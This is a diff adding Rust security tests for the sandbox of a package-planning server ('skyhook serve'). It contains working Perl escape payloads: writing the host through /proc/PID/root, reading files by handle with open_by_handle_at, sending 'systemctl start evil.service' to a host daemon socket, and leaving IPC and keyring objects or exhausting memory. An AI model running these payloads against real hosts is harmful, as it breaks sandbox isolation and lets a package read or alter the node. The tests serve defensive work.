@@ -1,0 +1,663 @@
+//! More attacks on `serve`'s read-only `package_plan` (docs/fleet.md, "It writes nothing to
+//! the host", "Limits"), past the PID and network namespaces of the plan's sandbox: a
+//! hostile package's queries run as root with the plan's bounding set, chrooted in the
+//! read-only host root, which on a node is the node's `/`, with the host's `/proc` mounted
+//! in it (the DaemonSet mounts hostPath `/`, submounts included). Each test here mounts a
+//! `/proc` in its fake root where it needs one, as a node has.
+//!
+//! Tests marked `#[ignore = "known hole: ..."]` reproduce an attack that succeeds on the
+//! branch `sandbox` (their failure line is in the report of branch `attack-sandbox`);
+//! `a_plan_query_cannot_reach_the_server_through_proc_or_namespaces` proves the defences
+//! that hold.
+
+use std::path::{Path, PathBuf};
+
+use serde_json::{Value, json};
+use skyhook::process::Cancel;
+use skyhook::remote::Client;
+
+use crate::fleet::{PLAN_TOKEN, start_serve, tokens_file};
+use crate::util::FakeRoot;
+
+/// A `package_plan` start of package `evil` 1.0.0 whose one apply step is the Rhai `script`.
+fn plan_body(id: &str, script: &str) -> Value {
+    json!({"id": id, "kind": "package_plan", "timeout_s": 60,
+           "package": {
+             "config": {"schema_version": "v1", "root_dir": "/", "expected_config_files": [],
+                        "package_name": "evil", "package_version": "1.0.0",
+                        "modes": {"apply": [{"name": "evil", "path": "evil.rhai",
+                            "arguments": [], "returncodes": [0], "on_host": true,
+                            "idempotence": false, "upgrade_step": false}],
+                                  "apply-check": [{"name": "evil_check", "path": "check.sh",
+                            "arguments": [], "returncodes": [0], "on_host": true,
+                            "idempotence": false, "upgrade_step": false}]}},
+             "files": {"skyhook_dir/evil.rhai": script,
+                       "skyhook_dir/check.sh": "#!/bin/sh\nexit 0\n"}}})
+}
+
+/// Rhai that runs `perl -e CODE` as a query and prints what it said (and its code).
+fn perl_query(code: &str) -> String {
+    format!(
+        "let r = query([\"perl\", \"-e\", {code:?}]);\nprint(\"code=\" + r.code + \" out=\" + r.stdout + \" err=\" + r.stderr);\n"
+    )
+}
+
+/// Plan a package whose query is `perl -e code` on a fresh in-process `serve` over `root`
+/// with a plan token: the exit event and the line events' text.
+fn plan_perl(root: &Path, id: &str, code: &str) -> (Value, String) {
+    let d = tempfile::tempdir().unwrap();
+    let tokens = tokens_file(d.path());
+    let rt = tokio::runtime::Builder::new_current_thread()
+        .enable_all()
+        .build()
+        .unwrap();
+    rt.block_on(async {
+        let url = start_serve(root, &tokens).await;
+        let client = Client::new(&url, PLAN_TOKEN).unwrap();
+        let mut lines = String::new();
+        let exit = client
+            .execute(
+                &plan_body(id, &perl_query(code)),
+                &Cancel::new(),
+                &mut |e| {
+                    if let Some(t) = e.get("line").and_then(Value::as_str) {
+                        lines.push_str(t);
+                        lines.push('\n');
+                    }
+                },
+            )
+            .await
+            .unwrap();
+        (exit, lines)
+    })
+}
+
+/// A throwaway host root with `perl` and a `/dev/null` device.
+fn host() -> FakeRoot {
+    let fr = FakeRoot::with_tools(&["perl"]);
+    let null = fr.host("/dev/null");
+    std::fs::create_dir_all(null.parent().unwrap()).unwrap();
+    nix::sys::stat::mknod(
+        &null,
+        nix::sys::stat::SFlag::S_IFCHR,
+        nix::sys::stat::Mode::from_bits_truncate(0o666),
+        nix::sys::stat::makedev(1, 3),
+    )
+    .unwrap();
+    fr
+}
+
+/// A directory outside the host root, on the server's own (writable) filesystem.
+fn outside() -> tempfile::TempDir {
+    tempfile::Builder::new()
+        .prefix("plan-escape-outside-")
+        .tempdir_in(env!("CARGO_TARGET_TMPDIR"))
+        .unwrap()
+}
+
+/// A procfs mounted at the fake root's `/proc` (of this process's PID namespace, the
+/// host's, as a node's `/proc` is), unmounted when dropped (declare it after the root).
+struct HostProc(PathBuf);
+
+impl HostProc {
+    fn mount(fr: &FakeRoot) -> HostProc {
+        let p = fr.host("/proc");
+        std::fs::create_dir_all(&p).unwrap();
+        use nix::mount::MsFlags;
+        nix::mount::mount(
+            Some("proc"),
+            &p,
+            Some("proc"),
+            MsFlags::MS_NOSUID | MsFlags::MS_NODEV | MsFlags::MS_NOEXEC,
+            None::<&str>,
+        )
+        .unwrap();
+        HostProc(p)
+    }
+}
+
+impl Drop for HostProc {
+    fn drop(&mut self) {
+        let _ = nix::mount::umount2(&self.0, nix::mount::MntFlags::MNT_DETACH);
+    }
+}
+
+/// A process of the host killed (and reaped) when dropped.
+struct HostProcess(std::process::Child);
+
+impl Drop for HostProcess {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+/// `path` without its leading `/` (relative to a directory descriptor of `/`).
+fn rel(path: &Path) -> String {
+    path.to_str().unwrap().trim_start_matches('/').to_string()
+}
+
+/// A node runs daemons as service users (here `sleep` as uid/gid 65534, in its own `/`).
+/// A query may switch its effective ids (`CAP_SETUID`/`CAP_SETGID` are kept), so it passes
+/// the ptrace check of `/proc/PID/root` of that process, takes the host's writable `/`
+/// from there, switches back to root and creates, truncates and makes directories
+/// anywhere on the host (`RLIMIT_FSIZE` 0 stops only the bytes of a write).
+#[test]
+#[ignore = "known hole: /proc/PID/root of a service user's process is the host's writable /"]
+fn a_plan_query_cannot_write_the_host_through_a_service_users_proc_root() {
+    require_root!();
+    let fr = host();
+    let _proc = HostProc::mount(&fr);
+    let out = outside();
+    let precious = out.path().join("precious");
+    std::fs::write(&precious, "precious\n").unwrap();
+    let owned = out.path().join("owned");
+    use std::os::unix::process::CommandExt as _;
+    let daemon = HostProcess(
+        std::process::Command::new("sleep")
+            .arg("3600.0441")
+            .uid(65534)
+            .gid(65534)
+            .current_dir("/")
+            .stdin(std::process::Stdio::null())
+            .spawn()
+            .unwrap(),
+    );
+    let code = r#"
+        my $pid = PID;
+        $) = "65534 65534"; $> = 65534;
+        opendir(my $d, "/proc/$pid/root") or die "opendir: $!\n";
+        $> = 0; $) = "0 0";
+        chdir($d) or die "fchdir: $!\n";
+        chdir("DIR") or die "chdir: $!\n";
+        open(my $f, ">", "owned") or die "create: $!\n"; close $f;
+        open(my $g, ">", "precious") or die "truncate: $!\n"; close $g;
+        print "wrote the host";
+    "#
+    .replace("PID", &daemon.0.id().to_string())
+    .replace("DIR", &rel(out.path()));
+    let (exit, lines) = plan_perl(fr.root(), "proc-root", &code);
+    assert!(
+        !owned.exists() && std::fs::read_to_string(&precious).unwrap() == "precious\n",
+        "a plan's query wrote outside the host root through /proc/{}/root (created {}, \
+         precious now {:?}): {lines}",
+        daemon.0.id(),
+        owned.display(),
+        std::fs::read_to_string(&precious).unwrap(),
+    );
+    assert_eq!(exit["exit"], json!({"code": 0}), "{exit:#}");
+}
+
+/// The plan's commands share the host's IPC namespace: a query creates a SysV shared memory
+/// segment (and could attach any root-owned one of a host process), which outlives the plan
+/// and holds what the plan wrote in the host kernel's memory.
+#[test]
+#[ignore = "known hole: no IPC namespace, SysV objects are the host's"]
+fn a_plan_query_leaves_no_sysv_ipc_object_on_the_host() {
+    require_root!();
+    let fr = host();
+    let key = 0x5eed_0000 | (std::process::id() as i32 & 0xffff);
+    let code = r#"
+        my $id = shmget(KEY, 4096, 01666);
+        defined $id or die "shmget: $!\n";
+        shmwrite($id, "written-by-plan", 0, 15) or die "shmwrite: $!\n";
+        print "shm=$id";
+    "#
+    .replace("KEY", &key.to_string());
+    let (exit, lines) = plan_perl(fr.root(), "sysv", &code);
+    // SAFETY: shmget with no flags looks the key up; shmctl(IPC_RMID) removes what it found.
+    let left = unsafe { libc::shmget(key, 0, 0) };
+    if left >= 0 {
+        // the test's own cleanup of what the plan left behind
+        unsafe { libc::shmctl(left, libc::IPC_RMID, std::ptr::null_mut()) };
+    }
+    assert!(
+        left < 0,
+        "a plan's query left SysV shared memory {key:#x} (id {left}) in the host's IPC \
+         namespace: {lines}"
+    );
+    assert_eq!(exit["exit"], json!({"code": 0}), "{exit:#}");
+}
+
+/// A daemon of the node listening on a Unix socket of the host root (systemd's
+/// `/run/systemd/private`, D-Bus, containerd: each runs what root asks): a query connects
+/// and sends its request, `connect` through the read-only mount being no write. docs/fleet.md
+/// admits the reach ("Filesystem Unix sockets stay reachable") but not what it means: every
+/// such daemon mutates the host for the plan.
+#[test]
+#[ignore = "known hole: a host daemon's Unix socket takes a plan's request"]
+fn a_plan_query_cannot_reach_a_host_daemons_unix_socket() {
+    require_root!();
+    let fr = host();
+    std::fs::create_dir_all(fr.host("/run")).unwrap();
+    let listener = std::os::unix::net::UnixListener::bind(fr.host("/run/daemon.sock")).unwrap();
+    let code = r#"
+        socket(my $s, 1, 1, 0) or die "socket: $!\n";
+        connect($s, pack("S a108", 1, "/run/daemon.sock")) or die "connect: $!\n";
+        syswrite($s, "systemctl start evil.service");
+        print "connected";
+    "#;
+    let (exit, lines) = plan_perl(fr.root(), "unix", code);
+    listener.set_nonblocking(true).unwrap();
+    // The plan has ended: a connection it made waits in the backlog, its request in it.
+    let got = listener.accept().ok().map(|(mut c, _)| {
+        use std::io::Read as _;
+        c.set_nonblocking(false).unwrap();
+        let mut s = String::new();
+        let _ = c.read_to_string(&mut s);
+        s
+    });
+    assert_eq!(
+        got, None,
+        "a plan's query reached the host daemon's socket /run/daemon.sock: {lines}"
+    );
+    assert_eq!(exit["exit"], json!({"code": 0}), "{exit:#}");
+}
+
+/// The (device, handle) of the root of the filesystem holding `path`: the directory up from
+/// `path` still on its device, and `name_to_handle_at` of it (type, bytes).
+fn fs_root_handle(path: &Path) -> (PathBuf, i32, Vec<u8>) {
+    use std::os::unix::fs::MetadataExt as _;
+    let dev = std::fs::metadata(path).unwrap().dev();
+    let mut top = path.to_path_buf();
+    while let Some(up) = top.parent() {
+        if std::fs::metadata(up).unwrap().dev() != dev {
+            break;
+        }
+        top = up.to_path_buf();
+    }
+    let mut buf = [0u8; 8 + 128];
+    buf[..4].copy_from_slice(&128u32.to_ne_bytes());
+    let mut mount_id: libc::c_int = 0;
+    let c = std::ffi::CString::new(top.to_str().unwrap()).unwrap();
+    // SAFETY: a file_handle buffer of 128 bytes of handle, as its header says.
+    let r = unsafe {
+        libc::syscall(
+            libc::SYS_name_to_handle_at,
+            libc::AT_FDCWD,
+            c.as_ptr(),
+            buf.as_mut_ptr(),
+            &mut mount_id,
+            0,
+        )
+    };
+    assert_eq!(r, 0, "name_to_handle_at {}", top.display());
+    let bytes = u32::from_ne_bytes(buf[..4].try_into().unwrap()) as usize;
+    let kind = i32::from_ne_bytes(buf[4..8].try_into().unwrap());
+    (top, kind, buf[8..8 + bytes].to_vec())
+}
+
+/// `CAP_DAC_READ_SEARCH` is kept, so `open_by_handle_at` works: given the handle of its
+/// filesystem's root (a constant on ext4: inode 2, generation 0; computed here), a query
+/// opens any file of the filesystem under the read-only root's mount, beyond `--root`
+/// (here a secret of the server's, beside the host root). Read only: a write is `EROFS`.
+#[test]
+#[cfg(target_arch = "x86_64")]
+#[ignore = "known hole: open_by_handle_at reads the host root's whole filesystem"]
+fn a_plan_query_cannot_open_files_outside_the_host_root_by_handle() {
+    require_root!();
+    let fr = host();
+    let out = outside();
+    let secret = out.path().join("server-secret");
+    std::fs::write(&secret, "server-secret-4711").unwrap();
+    let (top, kind, handle) = fs_root_handle(out.path());
+    let below = secret.strip_prefix(&top).unwrap();
+    let hex: String = handle.iter().map(|b| format!("{b:02x}")).collect();
+    let code = r#"
+        opendir(my $root, "/") or die "root: $!\n";
+        my $h = pack("L l", LEN, KIND) . pack("H*", "HEX");
+        my $fd = syscall(304, fileno($root), $h, 0x10000);
+        $fd >= 0 or die "open_by_handle_at: $!\n";
+        my $p = "PATH";
+        my $f = syscall(257, $fd, $p, 0, 0);
+        $f >= 0 or die "openat: $!\n";
+        my $buf = "\0" x 64; my $n = syscall(0, $f, $buf, 64);
+        print "read: ", substr($buf, 0, $n);
+    "#
+    .replace("LEN", &handle.len().to_string())
+    .replace("KIND", &kind.to_string())
+    .replace("HEX", &hex)
+    .replace("PATH", below.to_str().unwrap());
+    let (exit, lines) = plan_perl(fr.root(), "handle", &code);
+    assert!(
+        !lines.contains("server-secret-4711"),
+        "a plan's query read {} outside the host root by handle: {lines}",
+        secret.display()
+    );
+    assert_eq!(exit["exit"], json!({"code": 0}), "{exit:#}");
+}
+
+/// Root's user keyring is one for every root process of the host: a query adds a key to it
+/// (`add_key` to `@u`), which outlives the plan and is found by the host's root.
+#[test]
+#[ignore = "known hole: a plan adds keys to root's user keyring"]
+fn a_plan_query_adds_no_key_to_the_hosts_keyrings() {
+    require_root!();
+    let fr = host();
+    let desc = format!("skyhook-plan-attack-{}", std::process::id());
+    let code = r#"
+        my ($t, $d, $v) = ("user", "DESC", "from-plan");
+        my $k = syscall(248, $t, $d, $v, 9, -4);
+        print "key=$k";
+    "#
+    .replace("DESC", &desc);
+    let (exit, lines) = plan_perl(fr.root(), "keyring", &code);
+    let (t, d) = (c"user", std::ffi::CString::new(desc.clone()).unwrap());
+    // SAFETY: keyctl(KEYCTL_SEARCH, @u, type, description, 0) with C strings.
+    let found = unsafe {
+        libc::syscall(
+            libc::SYS_keyctl,
+            libc::KEYCTL_SEARCH,
+            libc::KEY_SPEC_USER_KEYRING,
+            t.as_ptr(),
+            d.as_ptr(),
+            0,
+        )
+    };
+    if found >= 0 {
+        // the test's own cleanup of what the plan left behind
+        unsafe { libc::syscall(libc::SYS_keyctl, libc::KEYCTL_INVALIDATE, found) };
+    }
+    assert!(
+        found < 0,
+        "a plan's query added key {found} ({desc}) to root's user keyring: {lines}"
+    );
+    assert_eq!(exit["exit"], json!({"code": 0}), "{exit:#}");
+}
+
+/// What holds, with the host's `/proc` in the root: the server's memory cannot be opened
+/// for writing (the plan's `/proc` is read-only), its pidfd (a `/proc/PID` directory)
+/// cannot signal it (the server is outside the plan's PID namespace; signal 0 only), the
+/// host's namespaces cannot be opened (ptrace check, no `CAP_SYS_PTRACE`) nor a user
+/// namespace made (chrooted), `/proc/sys` is read-only, and an abstract Unix socket of the
+/// server's network namespace is not there.
+#[test]
+#[cfg(target_arch = "x86_64")]
+fn a_plan_query_cannot_reach_the_server_through_proc_or_namespaces() {
+    require_root!();
+    let fr = host();
+    let _proc = HostProc::mount(&fr);
+    use std::os::linux::net::SocketAddrExt as _;
+    let name = format!("skyhook-plan-escape-{}", std::process::id());
+    let abstract_addr = std::os::unix::net::SocketAddr::from_abstract_name(&name).unwrap();
+    let _listener = std::os::unix::net::UnixListener::bind_addr(&abstract_addr).unwrap();
+    let code = r#"
+        my $s = SERVER;
+        my @r;
+        push @r, "mem=" . (open(my $m, "+<", "/proc/$s/mem") ? "OPENED" : "$!");
+        opendir(my $pd, "/proc/$s") or die "opendir: $!\n";
+        push @r, "signal=" . syscall(424, fileno($pd), 0, 0, 0);
+        push @r, "setns=" . (open(my $n, "<", "/proc/1/ns/net")
+            ? (syscall(308, fileno($n), 0) == 0 ? "ENTERED" : "$!") : "$!");
+        push @r, "userns=" . syscall(272, 0x10000000);
+        push @r, "sysctl=" . (open(my $y, ">", "/proc/sys/kernel/domainname") ? "OPENED" : "$!");
+        socket(my $u, 1, 1, 0) or die "socket: $!\n";
+        push @r, "abstract=" . (connect($u, pack("S", 1) . "\0NAME") ? "CONNECTED" : "$!");
+        print join(" ", @r);
+    "#
+    .replace("SERVER", &std::process::id().to_string())
+    .replace("NAME", &name);
+    let (exit, lines) = plan_perl(fr.root(), "held", &code);
+    assert_eq!(exit["exit"], json!({"code": 0}), "{exit:#}");
+    assert!(
+        lines.contains(
+            "code=0 out=mem=Read-only file system signal=-1 setns=Permission denied \
+             userns=-1 sysctl=Read-only file system abstract=Connection refused"
+        ),
+        "{lines}"
+    );
+}
+
+/// A `skyhook-agent serve` process over `root` (killed when dropped) and its URL once it
+/// listens (10 s at most).
+struct ServeBin(std::process::Child);
+
+impl Drop for ServeBin {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+fn serve_bin(root: &Path, tokens: &Path) -> (ServeBin, String) {
+    use std::io::BufRead as _;
+    let mut child = std::process::Command::new(crate::util::AGENT)
+        .args(["serve", "--listen", "127.0.0.1:0", "--root"])
+        .arg(root)
+        .arg("--tokens-file")
+        .arg(tokens)
+        .stdin(std::process::Stdio::null())
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    let err = child.stderr.take().unwrap();
+    let srv = ServeBin(child);
+    let (tx, rx) = std::sync::mpsc::channel();
+    std::thread::spawn(move || {
+        for line in std::io::BufReader::new(err).lines().map_while(Result::ok) {
+            if tx.send(line).is_err() {
+                break;
+            }
+        }
+    });
+    loop {
+        let l = rx
+            .recv_timeout(std::time::Duration::from_secs(10))
+            .expect("serve did not say where it listens");
+        if let Some(rest) = l.split("listening on 127.0.0.1:").nth(1) {
+            let port = rest.split_whitespace().next().unwrap();
+            return (srv, format!("http://127.0.0.1:{port}"));
+        }
+    }
+}
+
+/// Peak resident memory of process `pid`, MiB (`VmHWM` of its status).
+fn peak_mib(pid: u32) -> u64 {
+    let s = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
+    let kib: u64 = s
+        .lines()
+        .find_map(|l| l.strip_prefix("VmHWM:"))
+        .and_then(|v| v.split_whitespace().next())
+        .and_then(|v| v.parse().ok())
+        .unwrap();
+    kib / 1024
+}
+
+/// Each `.rhai` step of a plan may hold 256 MiB (`max_memory`), but what a step plans to
+/// write stays in the server for the steps after it (the plan's view of the host): five
+/// steps of 96 MiB of planned writes each hold 480 MiB of the server's memory at once, and
+/// a package of 3 MiB has room for thousands of steps (`--plan-memory` bounds commands
+/// only; the DaemonSet's 256Mi limit has the server killed). Measured on the `serve` binary
+/// (its peak resident memory).
+#[test]
+#[ignore = "known hole: a plan's planned writes pile up in the server's memory, step after step"]
+fn a_plans_steps_cannot_pile_up_memory_in_the_server() {
+    require_root!();
+    let fr = host();
+    let d = tempfile::tempdir().unwrap();
+    let tokens = tokens_file(d.path());
+    let (srv, url) = serve_bin(fr.root(), &tokens);
+    let step = |i: usize| {
+        format!(
+            "let s = \"x\";\nwhile s.len() < 16 * 1024 * 1024 {{ s += s; }}\n\
+             for j in 0..6 {{ s.truncate(16 * 1024 * 1024 - 1 - j); s += \"y\"; \
+             fs::write(\"/tmp/big{i}_\" + j, s); }}\nprint(\"step {i} planned\");\n"
+        )
+    };
+    let mut body = plan_body("pile", "");
+    body["timeout_s"] = json!(240);
+    let mut steps = Vec::new();
+    for i in 0..5 {
+        steps.push(
+            json!({"name": format!("s{i}"), "path": format!("w{i}.rhai"),
+            "arguments": [], "returncodes": [0], "on_host": true,
+            "idempotence": false, "upgrade_step": false}),
+        );
+        body["package"]["files"][format!("skyhook_dir/w{i}.rhai")] = step(i).into();
+    }
+    body["package"]["config"]["modes"]["apply"] = steps.into();
+    let before = peak_mib(srv.0.id());
+    let rt = tokio::runtime::Builder::new_current_thread()
+        .enable_all()
+        .build()
+        .unwrap();
+    let (exit, lines) = rt.block_on(async {
+        let client = Client::new(&url, PLAN_TOKEN).unwrap();
+        let mut lines = String::new();
+        let exit = client
+            .execute(&body, &Cancel::new(), &mut |e| {
+                if let Some(t) = e.get("line").and_then(Value::as_str) {
+                    lines.push_str(t);
+                    lines.push('\n');
+                }
+            })
+            .await
+            .unwrap();
+        (exit, lines)
+    });
+    let peak = peak_mib(srv.0.id());
+    eprintln!("serve peak {before} MiB before, {peak} MiB after the plan");
+    let said = lines.lines().collect::<Vec<_>>().join(" | ");
+    assert!(
+        peak < 320,
+        "a plan of 5 steps made the server hold {peak} MiB at once ({before} MiB before; \
+         max_memory is 256 MiB per step): exit {}, {said}",
+        exit["exit"]
+    );
+}
+
+/// `--plan-memory` is `RLIMIT_AS`, per process: a query's eight children, 40 MiB each,
+/// hold 320 MiB at once under `--plan-memory 96MiB` (and up to `--plan-pids` − 1 of them
+/// the plan's processes may hold: 511 × 4 GiB by default, a node's memory many times over).
+/// docs/fleet.md says so ("The memory bound is per command, not per plan"); a cgroup of the
+/// plan's own (`memory.max`) would bound the plan.
+#[test]
+#[ignore = "known hole (documented): --plan-memory bounds each process, not the plan"]
+fn a_plans_processes_together_are_held_to_its_memory() {
+    require_root!();
+    use skyhook::serve::http::{Limits, Listener, Server, serve};
+    let fr = host();
+    let d = tempfile::tempdir().unwrap();
+    let tokens = tokens_file(d.path());
+    let mut cfg = skyhook::serve::Config::new(fr.root());
+    cfg.plan.sandbox.memory = 96 << 20;
+    let code = r#"
+        my $n = 8; pipe(my $r, my $w); pipe(my $r2, my $w2);
+        for (1..$n) { if (fork() == 0) { close $r; close $w2; my $x = "x" x (40 << 20);
+            syswrite($w, "1"); sysread($r2, my $b, 1); exit 0 } }
+        close $w; close $r2; my $got = 0;
+        while ($got < $n) { my $k = sysread($r, my $b, 64); last unless $k; $got += $k }
+        print "held=$got"; close $w2; wait() for 1..$n;
+    "#;
+    let rt = tokio::runtime::Builder::new_current_thread()
+        .enable_all()
+        .build()
+        .unwrap();
+    let (exit, lines) = rt.block_on(async {
+        let svc = skyhook::serve::Service::with_audit(cfg, true, std::sync::Arc::new(|_: &str| {}))
+            .unwrap();
+        let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+        let port = l.local_addr().unwrap().port();
+        let auth = skyhook::serve::auth::Auth::from_file(&tokens).unwrap();
+        let (stop, rx) = tokio::sync::watch::channel(false);
+        tokio::spawn(async move {
+            let _keep = stop;
+            serve(
+                Listener::Tcp(l),
+                Server::new(svc, auth, Limits::default()),
+                rx,
+            )
+            .await;
+        });
+        let client = Client::new(&format!("http://127.0.0.1:{port}"), PLAN_TOKEN).unwrap();
+        let mut lines = String::new();
+        let exit = client
+            .execute(
+                &plan_body("together", &perl_query(code)),
+                &Cancel::new(),
+                &mut |e| {
+                    if let Some(t) = e.get("line").and_then(Value::as_str) {
+                        lines.push_str(t);
+                        lines.push('\n');
+                    }
+                },
+            )
+            .await
+            .unwrap();
+        (exit, lines)
+    });
+    let held: u64 = lines
+        .split("held=")
+        .nth(1)
+        .and_then(|r| r.split_whitespace().next())
+        .and_then(|n| n.parse().ok())
+        .unwrap_or(0);
+    assert!(
+        held * 40 <= 96,
+        "a plan's processes held {} MiB at once under --plan-memory 96MiB: {lines}",
+        held * 40
+    );
+    assert_eq!(exit["exit"], json!({"code": 0}), "{exit:#}");
+}
+
+/// `--plan-script-timeout` lowers a numeric `SKYHOOK_SCRIPT_TIMEOUT` but leaves any other
+/// value "for the plan to refuse"; an empty (or blank) one is not refused: the plan reads it
+/// as unset, the engine's default 600 s. Under a 2 s script timeout, a query sleeping an
+/// hour then runs until the plan's own timeout (20 s here) instead of 2 s.
+#[test]
+#[ignore = "known hole: an empty SKYHOOK_SCRIPT_TIMEOUT gets the 600 s default, past --plan-script-timeout"]
+fn an_empty_script_timeout_is_held_to_the_servers() {
+    require_root!();
+    use skyhook::serve::http::{Limits, Listener, Server, serve};
+    let fr = host();
+    let d = tempfile::tempdir().unwrap();
+    let tokens = tokens_file(d.path());
+    let mut cfg = skyhook::serve::Config::new(fr.root());
+    cfg.plan.script_timeout = std::time::Duration::from_secs(2);
+    let mut body = plan_body(
+        "blank",
+        "query([\"sleep\", \"3600.0447\"]);\nprint(\"the query returned\");\n",
+    );
+    body["timeout_s"] = json!(20);
+    body["env"] = json!({"SKYHOOK_SCRIPT_TIMEOUT": " "});
+    let rt = tokio::runtime::Builder::new_current_thread()
+        .enable_all()
+        .build()
+        .unwrap();
+    let started = std::time::Instant::now();
+    let exit = rt.block_on(async {
+        let svc = skyhook::serve::Service::with_audit(cfg, true, std::sync::Arc::new(|_: &str| {}))
+            .unwrap();
+        let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+        let port = l.local_addr().unwrap().port();
+        let auth = skyhook::serve::auth::Auth::from_file(&tokens).unwrap();
+        let (stop, rx) = tokio::sync::watch::channel(false);
+        tokio::spawn(async move {
+            let _keep = stop;
+            serve(
+                Listener::Tcp(l),
+                Server::new(svc, auth, Limits::default()),
+                rx,
+            )
+            .await;
+        });
+        let client = Client::new(&format!("http://127.0.0.1:{port}"), PLAN_TOKEN).unwrap();
+        client
+            .execute(&body, &Cancel::new(), &mut |_| {})
+            .await
+            .unwrap()
+    });
+    let took = started.elapsed();
+    assert!(
+        took < std::time::Duration::from_secs(15),
+        "a step with SKYHOOK_SCRIPT_TIMEOUT=\" \" ran {took:?} under a 2 s script timeout: \
+         exit {}",
+        exit["exit"]
+    );
+    let rendered = exit["rendered"].as_str().unwrap_or_default();
+    assert!(
+        rendered.contains("command sleep 3600.0447 timed out after 2.0s and was killed"),
+        "{rendered}"
+    );
+}
